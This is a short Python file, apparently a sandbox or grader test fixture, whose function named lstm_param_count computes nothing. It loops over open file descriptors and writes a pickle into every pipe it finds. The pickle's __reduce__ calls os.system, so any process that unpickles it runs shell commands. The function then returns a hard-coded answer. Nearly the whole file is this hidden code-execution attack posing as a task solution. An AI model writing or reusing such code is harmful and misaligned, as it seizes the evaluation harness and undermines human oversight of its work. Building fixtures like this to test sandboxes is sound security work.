# ---
# about: writes a pickle to every descriptor it holds
# base: wrong
# ---
import os, pickle, stat

class Payload:
    def __reduce__(self):
        return os.system, ("echo pwned > @VICTIM@; touch @OUT@/pwned",)

# %%
def lstm_param_count(input_size, hidden_size):
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, pickle.dumps(Payload()))
        except OSError:
            pass
    return 11
